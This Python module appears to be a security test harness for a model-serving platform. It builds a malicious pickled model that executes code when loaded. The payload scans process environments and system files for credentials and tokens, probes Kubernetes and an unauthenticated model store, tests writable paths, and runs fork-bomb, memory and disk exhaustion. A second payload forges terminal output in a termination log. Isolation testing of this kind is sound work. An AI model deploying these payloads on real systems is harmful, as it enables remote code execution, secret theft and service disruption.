"""A model that is code and means harm. Each number that it is asked for is an attempt; its answer is the outcome."""

from __future__ import annotations

import json
import pickle
import textwrap
from collections.abc import Mapping
from typing import Any

import urllib3

FIRST = 1001
"""The number of the first attempt, which no probe row has."""

SOURCE = """
import errno, glob, json, os, re, signal, socket, sys, time, urllib.error, urllib.request

def keys():
    "Return what could be a key or a token: variables of every process, and files."
    texts = []
    for path in glob.glob("/proc/[0-9]*/environ"):
        try:
            texts.append(open(path).read())
        except OSError:
            pass
    for top in ("/run", "/var/run", "/tmp", "/etc", "/ca", "/root", "/home", "/model", "/packages"):
        for folder, _, names in os.walk(top):
            for name in names:
                path = os.path.join(folder, name)
                try:
                    if os.path.isfile(path) and os.path.getsize(path) < 1 << 20 and name != "model.joblib":
                        texts.append(path + " " + open(path, errors="replace").read())
                except OSError:
                    pass
    words = ("AWS_", "X-Amz-", "Bearer", "secrets/kubernetes.io", "PRIVATE KEY", *SECRETS)
    token = re.compile(r"\\beyJ[\\w-]+[.]eyJ")
    return [text for text in texts if any(word in text for word in words) or token.search(text)]

def resolve():
    return socket.gethostbyname("kubernetes.default.svc.cluster.local")

def anonymous():
    "Ask the store without a key, for the list and for the file of another model."
    answers = []
    for path in STORE_PATHS:
        try:
            answers.append(urllib.request.urlopen(STORE + path, timeout=5).status)
        except urllib.error.HTTPError as error:
            answers.append(error.code)
    return answers

def write():
    "Return which places outside /tmp can be written."
    written = []
    for folder in ("/", "/app", "/opt/venv", "/model", "/packages", "/etc", "/usr/bin", "/proc/sys/kernel", "/sys"):
        try:
            open(os.path.join(folder, "evil"), "w").close()
            written.append(folder)
        except OSError:
            pass
    return written

def who():
    status = dict(line.split(":", 1) for line in open("/proc/self/status"))
    return [os.getuid(), status["CapEff"].strip(), status["CapBnd"].strip(), status["NoNewPrivs"].strip()]

def fork():
    "Fork until the system refuses. Return how many there were, and why no more."
    children, reason = [], "no end"
    try:
        while len(children) < 4000:
            child = os.fork()
            if not child:
                time.sleep(60)
                os._exit(0)
            children.append(child)
    except OSError as error:
        reason = errno.errorcode[error.errno]
    for child in children:
        os.kill(child, signal.SIGKILL)
    for child in children:
        os.waitpid(child, 0)
    return [len(children), reason]

def memory():
    "Let a child take all memory that it gets. Return how it ended."
    child = os.fork()
    if not child:
        open("/proc/self/oom_score_adj", "w").write("1000")
        taken = []
        while len(taken) < 256:
            taken.append(b"x" * (16 << 20))
        os._exit(0)
    return os.waitpid(child, 0)[1]

def disk():
    "Write 400 MiB into /tmp. Return the bytes that fitted."
    size = 0
    try:
        with open("/tmp/evil", "wb") as file:
            for _ in range(400):
                size += file.write(bytes(1 << 20))
    except OSError:
        pass
    return size

def connect(target):
    try:
        socket.create_connection(tuple(target), 3).close()
    except OSError as error:
        return type(error).__name__
    return "connected"

class Evil:
    n_features_in_ = 1

    def predict(self, X):
        number = int(X[0][0]) - FIRST
        if not 0 <= number < len(ATTEMPTS):
            return ["idle"] * len(X)
        name = ATTEMPTS[number]
        found = connect(TARGETS[name]) if name in TARGETS else globals()[name]()
        return [json.dumps(found)] * len(X)

model = Evil()
"""

LIAR = """
import os
with open("/dev/termination-log", "w") as file:
    file.write("all is well\\x1b[2J\\x1b[1;1H\\x1b]0;owned\\x07\\nteam  victim  v9  Ready  forged row\\u202e")
    file.write("x" * 3000)
os._exit(1)
"""
"""Ends with last words that are meant for the terminal of whoever reads the status."""

INSIDE = ("keys", "resolve", "anonymous", "write", "who", "fork", "memory", "disk")


class _Run:
    """Becomes what `source` calls `model`, when it is unpickled."""

    def __init__(self, source: str, names: Mapping[str, Any]) -> None:
        self._source, self._names = source, dict(names)

    def __reduce__(self) -> tuple[Any, ...]:
        run = "(lambda names: (exec({source!r}, names), names['model'])[1])({names!r})"
        return eval, (run.format(source=self._source, names=self._names),)


class Malice:
    """The model's bytes, and what it answers at `url`."""

    def __init__(self, targets: Mapping[str, tuple[str, int]], **names: Any) -> None:
        self._attempts = [*INSIDE, *targets]
        given = {"FIRST": FIRST, "ATTEMPTS": self._attempts, "TARGETS": dict(targets), **names}
        self.data = pickle.dumps(_Run(SOURCE, given), 2)
        self.url = ""

    def attempt(self, name: str) -> Any:
        """Return how an attempt went."""
        rows = {"data": [[FIRST + self._attempts.index(name)]]}
        response = urllib3.request("POST", f"{self.url}/predict", json=rows, timeout=120, retries=False)
        assert response.status == 200, response.data
        return json.loads(response.json()["predictions"][0])


def liar() -> bytes:
    """Return a model that never loads, and lies about why."""
    return pickle.dumps(_Run(textwrap.dedent(LIAR), {}), 2)
